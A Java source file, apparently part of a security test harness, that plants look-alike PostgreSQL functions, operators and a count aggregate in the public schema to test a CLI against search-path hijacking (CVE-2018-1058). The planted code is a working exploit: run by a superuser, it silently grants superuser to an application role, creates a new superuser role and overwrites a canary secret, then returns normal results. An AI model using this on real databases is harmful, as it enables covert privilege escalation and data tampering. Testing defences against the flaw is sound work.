package io.colshift.security;

import java.sql.SQLException;
import java.util.List;

/**
 * Functions and operators an application role without superuser plants in schema {@code public}, shaped to be a
 * better match than the built-in ones for calls the CLI makes (CVE-2018-1058): a {@code varchar} bind parameter or
 * column picks {@code f(varchar)} over {@code pg_catalog.f(text)}, a {@code bigint} key picks
 * {@code jsonb_build_object(text, bigint)} over the variadic built-in. Each one, when it runs as a superuser, makes
 * the role superuser, creates a role and a table, and overwrites the canary, then returns what the built-in would,
 * so that the CLI would not even notice. Same-signature ones ({@code now()}, {@code count(*)}) are planted too: the
 * implicit {@code pg_catalog} of the default path beats them, the pinned path as well.
 */
final class PlantedFunctions {

    private PlantedFunctions() {
    }

    static void plant(ApplicationRole app) throws SQLException {
        String role = app.name();
        app.execute(
                "CREATE FUNCTION public.colshift_attack(via text) RETURNS void LANGUAGE plpgsql AS $f$"
                        + " BEGIN"
                        + "   IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN"
                        + "     EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', '" + role + "');"
                        + "     IF NOT EXISTS (SELECT 1 FROM pg_catalog.pg_roles WHERE rolname = '" + role + "_x') THEN"
                        + "       EXECUTE pg_catalog.format('CREATE ROLE %I SUPERUSER', '" + role + "_x');"
                        + "     END IF;"
                        + "     CREATE TABLE IF NOT EXISTS public.attack_log (via text);"
                        + "     INSERT INTO public.attack_log VALUES (via);"
                        + "     UPDATE public.canary SET secret = 'stolen by ' || via;"
                        + "   END IF;"
                        + " END $f$",
                function("jsonb_build_object(k text, v bigint)", "jsonb",
                        "pg_catalog.jsonb_build_object(k, v)", "jsonb_build_object(text,bigint)"),
                function("to_regclass(name character varying)", "regclass",
                        "pg_catalog.to_regclass(name::text)", "to_regclass(varchar)"),
                function("hashtext(t character varying)", "integer", "pg_catalog.hashtext(t::text)", "hashtext(varchar)"),
                function("pg_notify(channel character varying, payload character varying)", "void",
                        "pg_catalog.pg_notify(channel::text, payload::text)", "pg_notify(varchar,varchar)"),
                function("make_interval(secs bigint)", "interval", "pg_catalog.make_interval(secs => secs::float8)",
                        "make_interval(secs bigint)"),
                function("lower(t character varying)", "text", "pg_catalog.lower(t::text)", "lower(varchar)"),
                function("now()", "timestamptz", "pg_catalog.now()", "now()"),
                function("pg_backend_pid()", "integer", "pg_catalog.pg_backend_pid()", "pg_backend_pid()"),
                function("txid_current()", "bigint", "pg_catalog.txid_current()", "txid_current()"),
                function("colshift_eq(a text, b character varying)", "boolean", "a OPERATOR(pg_catalog.=) b::text",
                        "=(text,varchar)"),
                "CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = character varying, FUNCTION = public.colshift_eq)",
                function("colshift_cat(a character varying, b character varying)", "text",
                        "a::text OPERATOR(pg_catalog.||) b::text", "||(varchar,varchar)"),
                "CREATE OPERATOR public.|| (LEFTARG = character varying, RIGHTARG = character varying,"
                        + " FUNCTION = public.colshift_cat)",
                function("colshift_count_step(n bigint)", "bigint", "n OPERATOR(pg_catalog.+) 1", "count(*)"),
                "CREATE AGGREGATE public.count(*) (SFUNC = public.colshift_count_step, STYPE = bigint, INITCOND = '0')");
    }

    private static String function(String signature, String returns, String result, String via) {
        String body = returns.equals("void") ? "PERFORM " + result + "; RETURN;" : "RETURN " + result + ";";
        return "CREATE FUNCTION public." + signature + " RETURNS " + returns + " LANGUAGE plpgsql AS $f$ BEGIN"
                + " PERFORM public.colshift_attack('" + via + "'); " + body + " END $f$";
    }
}
